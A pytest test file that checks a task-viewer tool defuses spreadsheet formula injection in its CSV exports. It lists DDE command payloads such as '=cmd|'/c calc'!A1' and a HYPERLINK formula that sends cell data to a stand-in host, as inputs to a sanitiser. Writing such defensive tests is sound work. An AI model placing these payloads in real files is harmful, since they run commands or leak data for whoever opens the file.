"""No cell of a CSV is run by the spreadsheet that opens it, unless one says so."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from support.cli_browser import Run, Serve, make_task
from taskview_tui.render.task_csv import harmless

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x/?"&A1,"look")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|'/c calc'!A1",
    "+49 30 1234",
    "-cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "- a list",
    "--5",
    "-0x10",
    "-٣",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tat line 3",
    " =1+1",
    "\0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)
NUMBERS = ("-5", "+5", "-1.5e-300", "5", "-0", "-00012")
ORDINARY = ("planner", "", "a=b", "tool:web", "'", "(-5)", '{"a": "=1"}', "→ -5", "2026-01-31")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_has_a_quote_before_it(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(harmless(text)) == f"'{text}"


@pytest.mark.parametrize("text", NUMBERS + ORDINARY)
def test_numbers_and_ordinary_text_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("command", [["ls", "x.db", "-o", "csv", "--full"], ["export", "x.db"]])
def test_both_commands_write_the_same_harmless_cells(
    run: Run, serve: Serve, command: list[str]
) -> None:
    serve(
        [
            make_task(1, error="=1+1", agent_id="@a", input="-5", output='"=1"', metadata="=x"),
            make_task(2, error="-12", agent_id="a"),
        ]
    )
    words = command if command[0] == "ls" else [*command, "-o", "csv"]
    ran = run(*words)
    first, second = csv.DictReader(io.StringIO(ran.out))
    assert (first["error"], first["agent_id"]) == ("'=1+1", "'@a")
    assert (first["input"], first["output"], first["metadata"]) == ("-5", '"=1"', '"=x"')
    assert (second["error"], second["agent_id"]) == ("-12", "a")
    assert "cells that a spreadsheet would run, with ' before them now: 2\n" in ran.err

    kept = run(*words, "--keep-formulas")
    first, second = csv.DictReader(io.StringIO(kept.out))
    assert (first["error"], first["agent_id"]) == ("=1+1", "@a")
    assert "spreadsheet" not in kept.err


def test_a_file_that_is_named_csv_is_no_different(run: Run, serve: Serve, tmp_path: Path) -> None:
    serve([make_task(1, error="=1+1")])
    file = tmp_path / "a.csv"
    assert run("export", "x.db", str(file), "--keep-formulas").code == 0
    assert ",=1+1," in file.read_text()
    assert run("export", "x.db", str(file), "--force").code == 0
    assert ",'=1+1," in file.read_text()


@pytest.mark.parametrize(
    "words", [["ls", "x.db", "-o", "json"], ["ls", "x.db"], ["export", "x.db", "a.ndjson"]]
)
def test_the_flag_is_for_csv_alone(run: Run, serve: Serve, words: list[str]) -> None:
    serve([make_task(1)])
    ran = run(*words, "--keep-formulas")
    assert (ran.code, ran.out) == (2, "")
    assert "--keep-formulas is for -o csv" in ran.err
